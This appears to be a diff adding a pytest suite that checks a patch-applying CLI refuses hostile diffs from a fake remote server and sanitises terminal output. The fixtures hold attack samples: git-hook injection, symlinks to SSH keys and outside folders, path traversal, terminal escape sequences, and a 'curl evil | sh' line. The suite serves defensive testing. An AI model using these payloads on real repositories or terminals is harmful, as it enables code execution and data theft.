@@ -1,0 +1,397 @@
+"""The laptop treats every diff as hostile (issue 8). A box that lies (tests/fake_box.py, a
+real HTTP server) hands the real CLI malicious patches, job records and AI text; each patch
+is refused as a whole, or shown truthfully, and the laptop's files, its .git folder and a
+folder outside the project stay byte for byte the same. Terminal output is read through a
+real pseudo-terminal and must hold no control bytes but Patchwire's own colours."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+
+import conftest
+from conftest import Laptop, git, make_repo, snapshot_tree, tree_digest
+from fake_box import EMPTY_TREE, FakeBox
+
+
+# ------------------------------------------------------------------ patch makers
+
+
+def new_file(path: bytes, text: bytes, mode: bytes = b"100644") -> bytes:
+    lines = text.splitlines(keepends=True)
+    return (b"diff --git a/%s b/%s\nnew file mode %s\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n"
+            % (path, path, mode, path, len(lines)) + b"".join(b"+" + l for l in lines))
+
+
+def new_link(path: bytes, target: bytes) -> bytes:
+    return (b"diff --git a/%s b/%s\nnew file mode 120000\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+%s\n"
+            b"\\ No newline at end of file\n" % (path, path, path, target))
+
+
+def edit(path: bytes, old: bytes, new: bytes) -> bytes:
+    return (b"diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1 +1 @@\n-%s+%s" % (path, path, path, path, old, new))
+
+
+def delete(path: bytes, text: bytes) -> bytes:
+    lines = text.splitlines(keepends=True)
+    return (b"diff --git a/%s b/%s\ndeleted file mode 100644\n--- a/%s\n+++ /dev/null\n@@ -1,%d +0,0 @@\n"
+            % (path, path, path, len(lines)) + b"".join(b"-" + l for l in lines))
+
+
+def delete_link(path: bytes, target: bytes) -> bytes:
+    return (b"diff --git a/%s b/%s\ndeleted file mode 120000\n--- a/%s\n+++ /dev/null\n@@ -1 +0,0 @@\n-%s\n"
+            b"\\ No newline at end of file\n" % (path, path, path, target))
+
+
+HONEST = new_file(b"docs/new.md", b"hello\n")
+OUTSIDE_HUNK = b"--- /dev/null\n+++ b/tests/conftest.py\n@@ -0,0 +1 @@\n+import os\n"
+BINARY_HOOK = (b"diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n"
+               b"index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n"
+               b"GIT binary patch\nliteral 3\nKcmZ?wbYK7g00008\n\nliteral 0\nHcmV?d00001\n\n")
+
+# (name, patch, a phrase the refusal must contain)
+CORPUS = [
+    ("unified diff before the first section", OUTSIDE_HUNK + HONEST, "outside a `diff --git` section"),
+    ("unified diff between sections", HONEST + OUTSIDE_HUNK + new_file(b"docs/b.md", b"b\n"),
+     "text git does not write here"),
+    ("text after the last section", HONEST + b"trailing words\n", "text git does not write here"),
+    ("header naming two files",
+     b"diff --git a/src/helper.py b/.vscode/tasks.json\nnew file mode 100644\n--- /dev/null\n"
+     b"+++ b/.vscode/tasks.json\n@@ -0,0 +1 @@\n+{}\n", "names other files"),
+    ("---/+++ naming two files",
+     b"diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/.envrc\n@@ -1 +1 @@\n-# demo\n+x\n",
+     "name two files"),
+    ("rename lines against the header",
+     b"diff --git a/README.md b/docs/readme.md\nsimilarity index 100%\nrename from README.md\n"
+     b"rename to .vscode/settings.json\n", "names other files"),
+    ("write beneath an ignored symlink out of the project", new_file(b"data/x", b"pwned\n"),
+     "beyond the symlink 'data'"),
+    ("write beneath a tracked symlink out of the project", edit(b"shared/secret.txt", b"secret\n", b"pwned\n"),
+     "beyond the symlink 'shared'"),
+    ("symlink into .git/hooks", new_link(b"tools", b".git/hooks"), "inside .git"),
+    ("symlink to a key", new_link(b"key", b"/root/.ssh/id_rsa"), "absolute target"),
+    ("symlink out of the project", new_link(b"docs/up", b"../../outside/secret.txt"), "outside the project"),
+    ("symlink chain through a link here", new_link(b"y", b"data/secret.txt"), "through the symlink 'data'"),
+    ("symlink chain within the patch",
+     new_link(b"p2", b".") + new_link(b"p1", b"p2/../outside/secret.txt"), "leads out of the project"),
+    ("rename moving a relative symlink out",
+     b"diff --git a/docs/readme-link b/readme-link\nsimilarity index 100%\nrename from docs/readme-link\n"
+     b"rename to readme-link\n", "outside the project"),
+    (".patchwire.toml", edit(b".patchwire.toml", b"[sync]\n", b"[sync]\n"), "Patchwire's own settings"),
+    (".patchwire.toml in another case, deeper", new_file(b"sub/.PatchWire.TOML", b"x = 1\n"),
+     "Patchwire's own settings"),
+    ("the token file", edit(b".pwtoken", b"pw_fake\n", b"pw_other\n"), "token file"),
+    (".git", new_file(b".git/hooks/post-checkout", b"#!/bin/sh\n", b"100755"), "git's own folder"),
+    (".GIT", new_file(b".GIT/hooks/post-checkout", b"#!/bin/sh\n"), "git's own folder"),
+    (".git.", new_file(b".git./config", b"x\n"), "git's own folder"),
+    ("git~1", new_file(b"GIT~1/config", b"x\n"), "git's own folder"),
+    (".git with an HFS+ ignored character", new_file(".g\u200cit/config".encode(), b"x\n"), "git's own folder"),
+    ("nested .git", new_file(b"sub/.git/config", b"x\n"), "git's own folder"),
+    ("binary patch to .git", BINARY_HOOK, "git's own folder"),
+    ("rename into .git",
+     b"diff --git a/README.md b/.git/hooks/post-checkout\nsimilarity index 100%\nrename from README.md\n"
+     b"rename to .git/hooks/post-checkout\n", "git's own folder"),
+    ("path with a newline", b'diff --git "a/x\\ny" "b/x\\ny"\nnew file mode 100644\n--- /dev/null\n'
+     b'+++ "b/x\\ny"\n@@ -0,0 +1 @@\n+x\n', "control character"),
+    ("escape sequence in a name", b'diff --git "a/\\033[2Jx" "b/\\033[2Jx"\nnew file mode 100644\n'
+     b'--- /dev/null\n+++ "b/\\033[2Jx"\n@@ -0,0 +1 @@\n+x\n', "control character"),
+    ("CRLF in headers", HONEST.replace(b"\n", b"\r\n"), "refused the whole patch"),
+    ("hunk for a file outside the project",
+     b"diff --git a/../outside/secret.txt b/../outside/secret.txt\n--- a/../outside/secret.txt\n"
+     b"+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-secret\n+pwned\n", "'..'"),
+    ("absolute path", new_file(b"/tmp/pw-absolute", b"x\n"), "absolute or empty path"),
+    ("more lines than the hunk says", HONEST + b"+smuggled\n", "text git does not write here"),
+    ("submodule", b"diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n"
+     b"+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1234567\n", "file mode"),
+    ("binary change without content", b"diff --git a/img.bin b/img.bin\nindex 1111111..2222222 100644\n"
+     b"Binary files a/img.bin and b/img.bin differ\n", "without its content"),
+    ("file turned symlink in place", b"diff --git a/README.md b/README.md\nold mode 100644\nnew mode 120000\n",
+     "in place"),
+    ("two spellings of one file", edit(b"README.md", b"# demo\n", b"# one\n") + new_file(b"readme.md", b"two\n"),
+     "changed by two sections"),
+    ("cut short", HONEST[:-1], "does not end with a newline"),
+    ("an index line making a new file executable",
+     HONEST.replace(b"--- /dev/null", b"index 0000000..1111111 100755\n--- /dev/null"), "contradicts the mode"),
+]
+
+
+# ------------------------------------------------------------------ the laptop, the box, the world
+
+
+@pytest.fixture
+def world(tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_bytes(b"secret\n")
+    root = make_repo(tmp_path / "laptop", {
+        "README.md": b"# demo\n", "src/helper.py": b"def helper():\n    return 1\n",
+        ".gitignore": b"data\n.pwtoken\n", "docs/a.md": b"a\n", "docs/b.md": b"b\n",
+        "docs/c.md": b"c\n", "docs/d.md": b"d\n", "docs/e.md": b"e\n"})
+    (root / "shared").symlink_to("../outside")  # the user's own links: kept, never written through
+    (root / "docs/readme-link").symlink_to("../README.md")
+    git(root, "add", "shared", "docs/readme-link")
+    git(root, "commit", "-qm", "links")
+    (root / "data").symlink_to(outside)  # ignored
+    (root / ".pwtoken").write_text("pw_fake\n")
+    box = FakeBox(tmp_path / "mirror")
+    lap = Laptop(root)
+    lap.run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
+    yield lap, box, outside
+    box.close()
+
+
+def state(lap: Laptop, outside: Path) -> tuple:
+    """The user's files, the user's git folder (less Patchwire's own state and the object
+    store a sync adds to) and a folder outside the project."""
+    return (tree_digest(lap.root), tree_digest(lap.root / ".git", skip=("patchwire", "objects")),
+            tree_digest(outside, skip=()))
+
+
+def refused(result, phrase: str) -> None:
+    assert result.returncode == 5, f"exit {result.returncode}\n{result.err}\n{result.out}"
+    assert "refused the whole patch, nothing was written" in result.err and phrase in result.err, result.err
+    assert "Traceback" not in result.err
+
+
+@pytest.mark.parametrize("name, patch, phrase", CORPUS, ids=[c[0] for c in CORPUS])
+def test_hostile_patch_is_refused_and_nothing_changes(world, name, patch, phrase):
+    lap, box, outside = world
+    box.add_job("abc123", patch)
+    before = state(lap, outside)
+    refused(lap.run("apply", "abc123", "--yes", "--keep-conflicts"), phrase)
+    assert state(lap, outside) == before
+
+
+def test_diff_json_refuses_with_the_usual_error_object(world):
+    lap, box, outside = world
+    picked = ("header naming two files", "write beneath a tracked symlink out of the project",
+              "symlink into .git/hooks")  # one refusal each of the reader, the disk and a link
+    for n, (name, patch, phrase) in enumerate(c for c in CORPUS if c[0] in picked):
+        box.add_job(f"abc12{n}", patch)
+        error = lap.run("diff", f"abc12{n}", "--json")
+        assert error.returncode == 5
+        body = json.loads(error.out)
+        assert phrase in body["error"] and body["exit_status"] == 5 and "Threat model" in body["hint"]
+
+
+SELECTED = [c for c in CORPUS if c[0] in (
+    "unified diff before the first section", "header naming two files", "write beneath an ignored symlink "
+    "out of the project", ".patchwire.toml")]
+
+
+@pytest.mark.parametrize("name, patch, phrase", SELECTED, ids=[c[0] for c in SELECTED])
+def test_every_way_in_refuses_it_and_undo_stays_true(world, name, patch, phrase):
+    lap, box, outside = world
+    original = state(lap, outside)
+    box.add_job("aaa111", edit(b"README.md", b"# demo\n", b"# honest\n"), ask=True)
+    lap.run("ask", "--yes", "go", check=0)
+    assert (lap.root / "README.md").read_bytes() == b"# honest\n"
+    applied = state(lap, outside)
+    box.add_job("bbb222", patch, ask=True)
+    refused(lap.run("ask", "--yes", "again"), phrase)
+    for extra in ([], ["--only", "docs"], ["--exclude", ".vscode", "tests", ".git", "data"]):
+        refused(lap.run("apply", "bbb222", "--yes", *extra), phrase)
+    out = conftest.drive_pty(lap, ["apply", "bbb222", "-i"], ["y"] * 4, prompts=(b",?]? ",))
+    assert "refused the whole patch" in out and phrase in out
+    assert state(lap, outside) == applied
+    assert lap.run("log", check=0).out.count("job ") == 1
+    lap.run("apply", "--undo", check=0)  # undoes the honest job, and only it
+    assert state(lap, outside) == original
+
+
+def test_the_merge_base_is_the_laptops_record_never_the_boxs(world):
+    lap, box, outside = world
+    before = state(lap, outside)
+    # asked elsewhere: no record here. The box says "empty tree", which would make the patch's
+    # new README.md merge with yours as if nothing had been synced.
+    box.add_job("ccc333", new_file(b"README.md", b"pwned\n"), tree=EMPTY_TREE)
+    result = lap.run("apply", "ccc333", "--yes", "--keep-conflicts")
+    assert result.returncode == 5 and "no record of the files it was made from" in result.err, result.err
+    assert state(lap, outside) == before
+    # asked here: the recorded tree is the base, whatever the box says
+    box.add_job("ddd444", new_file(b"README.md", b"pwned\n"), tree=EMPTY_TREE, ask=True)
+    asked = lap.run("ask", "--no-apply", "go", check=0)
+    assert "kept" in asked.err or "not applied" in asked.err
+    result = lap.run("apply", "ddd444", "--yes", "--keep-conflicts")
+    assert result.returncode == 5 and "does not even apply to the synced version" in result.err, result.err
+    assert state(lap, outside) == before
+
+
+@pytest.mark.parametrize("how", ["plain", "3-way"])
+def test_a_deleted_link_is_gone_before_anything_is_written_where_it_was(world, how):
+    """Case 3c: the patch adds `shared/secret.txt` (listed first), deletes the symlink
+    `shared` (to a folder outside) and adds a symlink `zzz`; a local edit forces the 3-way
+    merge, where Patchwire writes the files itself."""
+    lap, box, outside = world
+    patch = (new_file(b"shared/secret.txt", b"mine now\n") + delete(b"docs/a.md", b"a\n")
+             + delete_link(b"shared", b"../outside") + new_link(b"zzz", b"README.md"))
+    box.add_job("eee555", patch, ask=True)
+    lap.run("ask", "--no-apply", "go", check=0)
+    if how == "3-way":
+        (lap.root / "docs/a.md").write_bytes(b"edited here\n")  # plain apply no longer fits
+    outside_before = tree_digest(outside, skip=())
+    result = lap.run("apply", "eee555", "--yes", "--keep-conflicts", check=0)
+    assert ("3-way" in result.err) == (how == "3-way")
+    assert tree_digest(outside, skip=()) == outside_before
+    assert not (lap.root / "shared").is_symlink()
+    assert (lap.root / "shared/secret.txt").read_bytes() == b"mine now\n"
+    assert os.readlink(lap.root / "zzz") == "README.md"
+    lap.run("apply", "--undo", check=0)
+    assert os.readlink(lap.root / "shared") == "../outside"
+    assert tree_digest(outside, skip=()) == outside_before and not (lap.root / "zzz").exists()
+
+
+def test_undo_never_follows_a_link_that_appeared_since(world):
+    lap, box, outside = world
+    box.add_job("fff666", new_file(b"logs/x.txt", b"x\n"))
+    lap.run("apply", "fff666", "--yes", check=0)
+    os.unlink(lap.root / "logs/x.txt")
+    os.rmdir(lap.root / "logs")
+    os.symlink(outside, lap.root / "logs")  # the path now leads outside
+    (outside / "x.txt").write_bytes(b"x\n")  # and what it finds there looks like the applied file
+    before = tree_digest(outside, skip=())
+    result = lap.run("apply", "--undo")
+    assert result.returncode == 5 and "Traceback" not in result.err
+    assert "symlink" in result.err
+    assert tree_digest(outside, skip=()) == before
+
+
+# ------------------------------------------------------------------ shown truthfully
+
+
+CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+
+
+def terminal_text(out: str) -> str:
+    """What a terminal showed, less Patchwire's own colour codes: it must hold no other
+    control characters (a pty turns each newline into CR LF)."""
+    bare = re.sub("\x1b\\[[0-9;]*m", "", out)
+    found = CONTROL.findall(bare)
+    assert not found, f"raw control bytes reached the terminal: {found[:5]!r}"
+    return bare
+
+
+EVIL_TEXT = ("\x1b]0;owned title\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[H\u009b31mfake\rreal"
+             " \u202eevil\u202c")
+
+
+def test_escapes_from_the_box_never_reach_the_terminal_raw(world):
+    lap, box, outside = world
+    fake_preview = b"\x1b[2J\x1b[H  docs/harmless.md  modified +1 -0\x1b]0;title\x07\r\n"
+    patch = new_file(b"docs/notes.md", b"first\n" + fake_preview + b"last\n")
+    box.add_job("abc777", patch, ask=True, events=[
+        {"type": "text", "text": EVIL_TEXT + "\nsecond line \x1b[1A"},
+        {"type": "tool", "name": "\x1b[31mRead\x1b]0;t\x07", "detail": "a\nb\x1b[K"},
+        {"type": "tool_error", "text": "\x9b2J bad"}])
+    before = state(lap, outside)
+    out = conftest.drive_pty(lap, ["ask", "go"], ["no"], prompts=(b"for later",))
+    text = terminal_text(out)
+    assert "^[[2J" in text and "^[]52;c;cHduZWQ=^G" in text and "<U+009B>31mfake^Mreal" in text
+    assert "<U+202E>evil" in text and "> ^[[31mRead^[]0;t^G" in text
+    assert "+^[[2J^[[H  docs/harmless.md  modified +1 -0^[]0;title^G^M" in text
+    assert "kept job abc777" in text
+    assert state(lap, outside) == before
+    # the exact bytes stay available where no terminal reads them
+    assert lap.run("diff", "abc777", check=0).stdout == patch
+    diffed = json.loads(lap.run("diff", "abc777", "--json", check=0).out)
+    assert diffed["patch"].encode() == patch
+
+
+def test_errors_from_the_box_are_sanitised_too(world):
+    lap, box, outside = world
+    box.add_job("bad888", HONEST, status="failed")
+    box.jobs["bad888"]["status"] = "\x1b]0;owned\x07failed"
+    out = conftest.drive_pty(lap, ["apply", "bad888"], [], prompts=())
+    text = terminal_text(out)
+    assert "is ^[]0;owned^Gfailed: nothing to apply" in text
+
+
+def test_look_closely_names_what_runs_by_itself(world):
+    lap, box, outside = world
+    patch = (new_link(b"docs/readme", b"../README.md") + new_file(b"run.sh", b"#!/bin/sh\n", b"100755")
+             + new_file(b".github/workflows/ci.yml", b"on: push\n") + new_file(b".envrc", b"export X=1\n")
+             + new_file("docs/gnp.\u202ecod".encode(), b"x\n")
+             + b"".join(delete(b"docs/%s.md" % n, b"%s\n" % n) for n in (b"a", b"b", b"c", b"d", b"e")))
+    box.add_job("abc999", patch, ask=True)
+    lap.run("ask", "--no-apply", "go", check=0)
+    diffed = json.loads(lap.run("diff", "abc999", "--json", check=0).out)
+    assert diffed["look_closely"] == [
+        {"path": "docs/readme", "reason": "new symlink -> ../README.md"},
+        {"path": "run.sh", "reason": "new executable file"},
+        {"path": ".github/workflows/ci.yml", "reason": "CI workflow (runs with the repository's secrets)"},
+        {"path": ".envrc", "reason": "runs when you cd here (direnv)"},
+        {"path": "docs/gnp.\u202ecod", "reason": "its name holds invisible or direction-changing characters"},
+        {"path": "docs", "reason": "deletes 5 files"}]
+    assert [f["path"] for f in diffed["files"]][:2] == ["docs/readme", "run.sh"]
+    # `apply` without a job previews and asks, the notes above the diff; `n` keeps everything
+    before = state(lap, outside)
+    out = terminal_text(conftest.drive_pty(lap, ["apply"], ["n"], prompts=(b"for later",)))
+    notes, diff = out.index("Look closely:"), out.index("diff --git a/docs/readme")
+    assert notes < out.index("docs/readme: new symlink -> ../README.md") < diff
+    assert re.search("docs/readme +new symlink", out) and "kept job abc999" in out
+    assert "docs/gnp.<U+202E>cod" in out
+    assert state(lap, outside) == before
+
+
+def test_apply_without_a_terminal_needs_yes(world):
+    lap, box, outside = world
+    box.add_job("abc000", HONEST)
+    result = lap.run("apply", "abc000")
+    assert result.returncode == 2 and "pass --yes" in result.err
+    assert json.loads(lap.run("apply", "abc000", "--json").out)["exit_status"] == 2
+    assert not (lap.root / "docs/new.md").exists()
+    applied = json.loads(lap.run("apply", "abc000", "--yes", "--json", check=0).out)
+    assert applied["files"] == ["docs/new.md"] and applied["how"] == "plain"
+
+
+def test_interactive_shows_a_new_files_content_before_asking(world):
+    lap, box, outside = world
+    box.add_job("abc444", new_file(b"docs/new.sh", b"#!/bin/sh\ncurl evil | sh\n", b"100755"))
+    out = terminal_text(conftest.drive_pty(lap, ["apply", "abc444", "-i"], ["n"], prompts=(b",?]? ",)))
+    assert out.index("+curl evil | sh") < out.index("Apply this whole file")
+    assert "look closely: new executable file" in out
+    assert not (lap.root / "docs/new.sh").exists()
+
+
+def test_an_honest_patch_with_links_modes_and_odd_names_still_applies(world):
+    lap, box, outside = world
+    name = "docs/notes with spaces/R\u00e9sum\u00e9.txt".encode()
+    patch = (new_link(b"docs/link", b"../src/helper.py") + new_file(b"bin/tool", b"#!/bin/sh\n", b"100755")
+             + b"diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\t\n@@ -0,0 +1 @@\n+caf\xc3\xa9\r\n"
+             % (name, name, name)
+             + b"diff --git a/docs/readme-link b/docs/readme-link2\nsimilarity index 100%\n"
+               b"rename from docs/readme-link\nrename to docs/readme-link2\n"
+             + b"diff --git a/src/helper.py b/src/helper.py\nold mode 100644\nnew mode 100755\n"
+             + delete(b"docs/e.md", b"e\n") + new_link(b"docs/e.md", b"a.md"))  # a file became a link
+    box.add_job("abc555", patch)
+    lap.run("apply", "abc555", "--yes", check=0)
+    root = lap.root
+    assert os.readlink(root / "docs/link") == "../src/helper.py"
+    assert os.access(root / "bin/tool", os.X_OK) and os.access(root / "src/helper.py", os.X_OK)
+    assert (root / name.decode()).read_bytes() == "caf\u00e9\r\n".encode()
+    assert os.readlink(root / "docs/readme-link2") == "../README.md"
+    assert os.readlink(root / "docs/e.md") == "a.md"
+
+
+def test_the_reader_takes_what_git_writes_and_nothing_else():
+    import patchwire
+    blank = b"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n\n-b\n+c\n"  # diff.suppressBlankEmpty
+    assert [(f.path, f.added, f.removed) for f in patchwire.split_patch(blank)] == [("f", 1, 1)]
+    quoted = (b'diff --git "a/t\\tx" "b/t\\303\\251"\nsimilarity index 100%\n'
+              b'rename from "t\\tx"\nrename to "t\\303\\251"\n')  # core.quotePath: both spellings
+    with pytest.raises(patchwire.PatchRefused, match="control character"):
+        patchwire.split_patch(quoted)
+    accented = b'diff --git a/x "b/t\\303\\251"\nsimilarity index 100%\nrename from x\nrename to t\xc3\xa9\n'
+    assert patchwire.split_patch(accented)[0].path == "t\u00e9"
+
+
+def test_sanitize_shows_every_control_character():
+    import patchwire
+    raw = "a\x1b[2J\x07\tb\r\x7f\u009b\u202e" + b"\xe9".decode("utf-8", "surrogateescape") + "\n"
+    assert patchwire.sanitize(raw) == "a^[[2J^G\tb^M^?<U+009B><U+202E>\\xe9^J"
+    assert patchwire.sanitize(raw, keep_newlines=True).endswith("\\xe9\n")
